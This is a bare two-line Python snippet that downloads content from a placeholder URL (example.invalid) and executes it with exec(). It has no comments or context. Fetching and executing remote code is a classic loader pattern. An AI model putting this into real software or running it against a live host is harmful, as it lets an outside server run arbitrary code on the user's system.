import urllib.request

exec(urllib.request.urlopen("https://example.invalid/x").read())
